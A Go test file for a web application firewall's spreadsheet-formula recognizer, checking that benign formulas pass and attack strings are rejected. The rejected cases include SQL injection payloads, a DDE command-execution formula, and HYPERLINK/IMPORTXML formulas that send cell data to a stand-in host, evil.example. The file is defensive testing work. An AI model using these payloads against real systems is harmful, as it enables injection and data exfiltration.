package waf

import (
	"os"
	"strings"
	"testing"
)

func TestSpreadsheetFormula(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{`=IF(A2>100, "high", "low")`, true},
		{`=SUM(B2:B11)*(1+C1)`, true},
		{`=VLOOKUP(A2, Sheet2!A:B, 2, FALSE)`, true},
		{`=IFERROR(AVERAGE($C$2:$C$9), 0)`, true},
		{`=ROUND(A1*10%, 2)`, true},
		{`=IF(A1>1; "yes"; "no")`, true},
		{`=COUNTIFS(A:A, "shipped", B:B, "priority")`, true},
		{`=A1+B1`, true},
		{`=STDEV.S(D2:D40)`, true},
		// What the formula shape must not pass.
		{`IF(A2>100, "high", "low")`, false},                       // no =: not a formula
		{`=A1`, false},                                             // no call and no operator
		{`=IF(1=1,SLEEP(5),0)`, false},                             // SLEEP is no spreadsheet function
		{`=IF((SELECT COUNT(*) FROM users)>0,1,0)`, false},         // SELECT is no function, users no cell
		{`=IF(password>"m",1,0)`, false},                           // a column that is not a cell
		{`=A1 OR 1=1`, false},                                      // a bare keyword
		{`=1;DROP TABLE users`, false},                             // a statement separator outside calls
		{`=cmd|' /C calc'!A0`, false},                              // DDE
		{`=HYPERLINK("http://evil.example/?"&A1, "click")`, false}, // fetches
		{`=IMPORTXML("http://evil.example", "//a")`, false},
		{`=INDIRECT("A"&B1)`, false},
		{`=IF(A1,"x' OR '1'='1","y")`, false}, // a quote that leaves a '...' string
		{`=IF(A1,"a" OR "b","c")`, false},     // a keyword between strings
		{`=SUM(A1:B2`, false},                 // unbalanced
		{`=SUM(A1)+`, false},                  // ends on an operator
		{`=IF(A1>1,"a\"b","c")`, false},       // a backslash escape
		{"=SUM(A1)\n", false},                 // a line break
		// In a "..." string, the text between the formula's strings is
		// SQL: " " after a string is MySQL's concatenation, not provably
		// broken (" OR 1=1 OR " would be a tautology), so not passed.
		{`=CONCATENATE(A2, " ", B2)`, false},
		{`=CONCATENATE(A2, " OR 1=1 OR ", B2)`, false},
	} {
		if got := spreadsheetFormula(tc.v); got != tc.want {
			t.Errorf("spreadsheetFormula(%q) = %v; want %v", tc.v, got, tc.want)
		}
	}
}

// evalAttacks returns the payloads of the evaluation corpus's attack
// lists (eval/corpus/attacks) of the classes named.
func evalAttacks(t *testing.T, classes ...string) []string {
	t.Helper()
	var out []string
	for _, class := range classes {
		b, err := os.ReadFile("eval/corpus/attacks/" + class + ".txt")
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(string(b), "\n") {
			if line = strings.TrimRight(line, "\r"); line != "" {
				out = append(out, line)
			}
		}
	}
	if len(out) < 100 {
		t.Fatalf("read %d payloads of %v; want the corpus's", len(out), classes)
	}
	return out
}

// TestFormulaNotAttack: no payload of the evaluation corpus's lists is a
// formula the shape would pass.
func TestFormulaNotAttack(t *testing.T) {
	for _, p := range evalAttacks(t, "sqli", "nosqli", "cmdi", "ssti", "xss", "ldapi", "lfi", "traversal") {
		if spreadsheetFormula(p) {
			t.Errorf("payload %q is a formula", p)
		}
	}
}
